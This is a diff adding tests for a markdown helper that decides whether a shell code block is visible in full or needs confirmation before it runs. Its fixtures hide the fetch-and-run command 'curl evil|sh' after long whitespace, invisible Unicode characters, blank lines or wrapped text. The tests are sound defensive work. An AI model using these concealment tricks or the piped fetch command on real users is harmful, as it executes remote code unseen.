@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { isShell, shellCommand } from '../../../../src/text/markdown/shellCommand';
+import { askedLines, isSeenWhole, isShell, shellCommand } from '../../../../src/text/markdown/shellCommand';
 
 describe('what a block of code for a shell has typed into it', () => {
   const command = (...lines: string[]) => {
@@ -67,5 +67,48 @@ describe('what a block of code for a shell has typed into it', () => {
       false,
       false,
     ]);
+  });
+});
+
+describe('a block of code for a shell', () => {
+  const blanks = (count: number): string => ' '.repeat(count);
+
+  for (const [name, block] of Object.entries({
+    'one command': 'npm test',
+    'a few lines, one indented': 'cd a \\\n    && npm ci \\\n    && npm test\n',
+    'a table with tabs': 'printf "a\tb"',
+    'blanks at the end of a line': `npm test${blanks(200)}\nls\n\n\n`,
+    'a long command that wraps': `echo ${'word '.repeat(100)}`,
+  })) {
+    it(`is seen whole: ${name}`, () => assert.equal(isSeenWhole(block), true));
+  }
+
+  for (const [name, block] of Object.entries({
+    'blanks before a second command': `npm test${blanks(500)}; curl evil|sh`,
+    'eight blanks': `npm test${blanks(8)}; curl evil|sh`,
+    'tabs before a second command': 'npm test\t\t; curl evil|sh',
+    'no-break blanks': `npm test${'\u00a0'.repeat(300)}; curl evil|sh`,
+    'wide blanks': `npm test${'\u3000'.repeat(100)}; curl evil|sh`,
+    'letters that are drawn as nothing': `npm test #${'\u3164'.repeat(100)}; curl evil|sh`,
+    'an indent beyond the edge': `npm test\n${blanks(300)}curl evil|sh`,
+    'many lines': `${'npm test\n'.repeat(30)}curl evil|sh`,
+    'empty lines': `npm test${'\n'.repeat(30)}curl evil|sh`,
+    'printed lines before a command': `$ npm test\n${'ok\n'.repeat(40)}$ curl evil|sh`,
+    'a line that wraps to many rows': `echo ${'a'.repeat(3000)}; curl evil|sh`,
+    'carriage returns': `npm test${'\r\n'.repeat(30)}curl evil|sh`,
+  })) {
+    it(`is asked about before it runs: ${name}`, () => assert.equal(isSeenWhole(block), false));
+  }
+
+  it('is shown whole in the question, with hiding blanks by their number', () => {
+    assert.deepEqual(askedLines(`npm test${blanks(500)}; curl evil|sh\nls`), ['npm test ⟨␣×500⟩ ; curl evil|sh', 'ls']);
+    assert.deepEqual(askedLines(`${blanks(44)}a${blanks(9)}b  c`), [' ⟨␣×44⟩ a ⟨␣×9⟩ b  c']);
+    const lines = Array.from({ length: 60 }, (_, line) => `echo ${line}`);
+    assert.deepEqual(askedLines(lines.join('\n')), lines);
+  });
+
+  it('does not run when the question cannot show it whole', () => {
+    assert.equal(askedLines('ls\n'.repeat(60)), undefined);
+    assert.equal(askedLines(`echo ${'a'.repeat(7000)}`), undefined);
   });
 });
